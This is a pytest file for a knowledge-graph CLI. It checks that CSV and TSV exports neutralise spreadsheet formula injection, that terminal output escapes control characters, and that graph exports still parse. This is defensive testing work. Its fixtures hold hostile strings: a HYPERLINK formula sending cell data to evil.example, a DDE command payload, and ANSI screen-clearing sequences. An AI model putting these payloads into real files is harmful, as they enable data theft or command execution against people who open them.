"""Output that article text cannot turn against the reader: CSV/TSV cells a spreadsheet would
run as formulas get a leading ', terminal tables show control characters escaped, and GraphML
and GEXF parse whatever the store holds."""
from __future__ import annotations

import csv
import io

import networkx as nx
import pandas as pd
import pytest
from click.testing import CliRunner, Result

from kg.analyze.timeline import TimelineEntry
from kg.cli import main, render
from kg.model import Article, Entity, Event, Evidence, Extraction
from kg.rdf.graph import extraction_triples
from kg.store.oxigraph import OxigraphStore

FORMULA = '=HYPERLINK("http://evil.example/exfil?"&A1,"Click")'
TITLES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\uff1dSUM(A1)", "\tTab first", "-5", "Plain"]
QUERY = "SELECT ?t WHERE { ?a kg:title ?t } ORDER BY ?t"

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")


def kg(*args: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture
def hostile_store(tmp_path):
    """A store holding what ingest would clean (as a store built elsewhere may): formulas and
    control characters in titles, names and evidence."""
    path = tmp_path / "store"
    evidence = Evidence(article_id="esc", sentence="Bad\x1b[2J\x00Name met Japan\x0c.", start=0, end=3,
                        rule="consult.meet.v1", confidence=0.9)
    bad = Entity(key="person/bad-name", type="Person", name="Bad\x1b[2J\x00Name")
    japan = Entity(key="country/JPN", type="Country", name="Japan", iso3="JPN")
    with OxigraphStore(path) as store:
        store.load_ontology()
        for n, title in enumerate(TITLES):
            store.put_graph(extraction_triples(Extraction(article=Article(id=f"a{n}", text="x", title=title))))
        store.put_graph(extraction_triples(Extraction(
            article=Article(id="esc", text="Bad met Japan.", title="Red\x1b[31m alert\nforged line\x9b"),
            entities=(bad, japan),
            events=(Event(type="Meeting", trigger="met", agents=("person/bad-name",), targets=("country/JPN",),
                          evidence=evidence),))))
    return path


def test_render_csv_cells_that_would_run_as_formulas_get_a_leading_quote(hostile_store):
    result = kg("query", QUERY, "--format", "csv", "--store", hostile_store)
    cells = [row[0] for row in csv.reader(io.StringIO(result.stdout))][1:]
    assert sorted(c for c in cells if "alert" not in c) == sorted([
        "'" + FORMULA, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\uff1dSUM(A1)", "'\tTab first", "-5", "Plain"])
    frame = pd.read_csv(io.StringIO(result.stdout))  # a spreadsheet-like reader sees text, never a formula
    assert not any(str(t).startswith(("=", "+", "@", "\uff1d")) for t in frame["t"])


def test_render_tsv_is_neutralised_too_and_raw_turns_it_off(hostile_store):
    tsv = kg("query", QUERY, "--format", "tsv", "--store", hostile_store).stdout
    cells = [row[0] for row in csv.reader(io.StringIO(tsv), delimiter="\t")][1:]
    assert "'" + FORMULA in cells and "'@SUM(A1)" in cells and "-5" in cells
    raw = kg("query", QUERY, "--format", "csv", "--raw", "--store", hostile_store).stdout
    assert [row[0] for row in csv.reader(io.StringIO(raw))][1:].count(FORMULA) == 1
    assert "'=" not in raw


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-1.5e3", "-1.5e3"), ("-", "'-"), ("@x", "'@x"), ("\rx", "'\rx"),
    ("\uff20x", "'\uff20x"), ("\uff0bx", "'\uff0bx"), ("\uff0dx", "'\uff0dx"), ("a=b", "a=b"), ("", ""),
])
def test_render_spreadsheet_safe_leaves_numbers_and_plain_text(cell, safe):
    assert render.spreadsheet_safe(cell) == safe


def test_render_table_shows_control_characters_escaped_one_line_per_row(hostile_store):
    result = kg("query", "SELECT ?t WHERE { ?a kg:title ?t FILTER(CONTAINS(?t, 'alert')) }", "--store", hostile_store)
    row = "Red\\x1b[31m alert forged line\\x9b"
    assert result.stdout.splitlines() == ["t", "-" * len(row), row, "(1 row)"]
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout


def test_render_text_reports_escape_what_they_print():
    entry = TimelineEntry(when="2025-05-23", time=None, event="e", iri="x", event_type="Meeting", modality="happened", objects=(), lemma=None, articles=1,
                          agents=("Bad\x1b[2JName",), targets=(), places=(), article_title="T\x07",
                          source="S\u202eevil", article_url=None, sentence=None)
    out = render.timeline([entry])
    assert "Bad\\x1b[2JName" in out and "T\\x07" in out and "S\\u202eevil" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e")


@pytest.mark.parametrize("fmt, read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_render_graph_exports_parse_with_control_characters_in_names(hostile_store, tmp_path, fmt, read):
    out = tmp_path / f"graph.{fmt}"
    result = kg("export", "--format", fmt, "-o", out, "--store", hostile_store)
    assert result.exit_code == 0, result.output
    graph = read(out)
    labels = {data.get("label") for _, data in graph.nodes(data=True)}
    assert "Bad\ufffd[2J\ufffdName" in labels
